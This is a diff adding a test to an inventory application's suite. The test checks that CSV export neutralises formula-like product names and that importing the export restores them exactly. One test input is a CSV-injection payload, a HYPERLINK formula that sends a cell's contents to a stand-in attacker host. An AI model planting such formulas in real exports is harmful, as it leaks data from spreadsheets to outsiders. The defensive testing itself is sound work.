@@ -208,6 +208,30 @@ def test_export_then_import_round_trips(inventory: Inventory, tmp_path: Path) ->
     assert first.read_text().splitlines()[0] == HEADER
 
 
+def test_an_export_opens_in_a_spreadsheet_as_text_and_imports_back_exactly(
+        tmp_path: Path) -> None:
+    """OWASP CSV injection: a name like =HYPERLINK(...) would run when a manager opens the
+    export. Every cell starting like a formula is exported behind a `'`; importing the export
+    restores each name exactly, a name that really starts with `'` included."""
+    import csv
+
+    names = ['=HYPERLINK("http://attacker.invalid/?d="&A1,"Click for details")', "+1 cable",
+             "-Pro stand", "@sum", "'90s radio"]
+    rows = [f'{2000 + i},"{name.replace(chr(34), chr(34) * 2)}",Acme,accessories,M{i},9.99,,,,,'
+            f'1,1,1,C1,,' for i, name in enumerate(names)]
+    inventory = Inventory(tmp_path / "inv.db")
+    inventory.import_csv(write_csv(tmp_path, rows))
+    out = tmp_path / "export.csv"
+    inventory.export_csv(out)
+    with out.open(newline="", encoding="utf-8") as handle:
+        exported = [row["name"] for row in csv.DictReader(handle)]
+    assert exported == ["'" + name for name in names]
+    copy = Inventory(tmp_path / "copy.db")
+    copy.import_csv(out)
+    assert [p.name for p in copy.products()] == [p.name for p in inventory.products()]
+    assert sorted(p.name for p in copy.products()) == sorted(names)
+
+
 def test_export_to_a_missing_folder_writes_nothing(inventory: Inventory, tmp_path: Path) -> None:
     with pytest.raises(DataError, match="does not exist"):
         inventory.export_csv(tmp_path / "missing" / "out.csv")
